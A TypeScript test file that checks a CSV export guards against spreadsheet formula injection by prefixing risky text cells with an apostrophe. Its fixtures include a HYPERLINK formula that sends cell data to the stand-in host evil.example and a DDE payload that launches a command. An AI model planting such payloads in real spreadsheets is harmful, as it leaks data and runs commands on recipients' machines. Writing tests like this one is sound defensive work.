// CSV formula injection: a text cell a spreadsheet would run as a formula gets a leading `'`.
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { useTestDatabase } from "../../test/support/db";
import { receiveDelivery } from "../ingest/store";
import { parseExportRequest } from "./request";
import { openExport } from "./stream";
import { csvRecords, readAll } from "../../test/support/export-readers";

const db = useTestDatabase();
const example = JSON.parse(readFileSync(new URL("../../test/fixtures/provider-example-20004.json", import.meta.url), "utf8"));

const NICKNAMES: Record<string, string> = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(1,2)",
  tab: "\t=1",
  cr: "\r=1",
  plain: "小明 a=b",
  empty: "",
};

async function exportText(query: string): Promise<string> {
  return (await readAll(await openExport(db.pool, parseExportRequest(new URLSearchParams(query))))).toString("utf8");
}

describe("CSV formula neutralisation", () => {
  it("prefixes text cells starting with = + - @ tab or CR with ', leaves others and numbers, and raw=1 keeps the bytes", async () => {
    let n = 0;
    for (const [key, nick] of Object.entries(NICKNAMES)) {
      const data = { ...example.data, serverId: key, fromNickName: nick, conversationId: key === "equals" ? "=cmd" : "room", duration: 7, sendTime: 1726826627676 + n++ };
      await receiveDelivery(db.client, Buffer.from(JSON.stringify({ ...example, data })));
    }
    const safe = Object.fromEntries(csvRecords(await exportText("format=csv")).map((r) => [r.serverId, r]));
    const raw = Object.fromEntries(csvRecords(await exportText("format=csv&raw=1")).map((r) => [r.serverId, r]));
    for (const key of ["equals", "plus", "minus", "at", "tab", "cr"]) {
      expect(safe[key].fromNickName, key).toBe(`'${NICKNAMES[key]}`);
      expect(raw[key].fromNickName, key).toBe(NICKNAMES[key]);
    }
    expect(safe.plain.fromNickName).toBe(NICKNAMES.plain);
    expect(safe.empty.fromNickName).toBe("");
    expect(safe.equals.conversationId).toBe("'=cmd");
    expect(safe.equals.duration).toBe("7");
    // JSON is for programs: as stored.
    const json = JSON.parse(await exportText("format=json")) as { serverId: string; fromNickName: string }[];
    expect(json.find((r) => r.serverId === "equals")?.fromNickName).toBe(NICKNAMES.equals);
  });
});
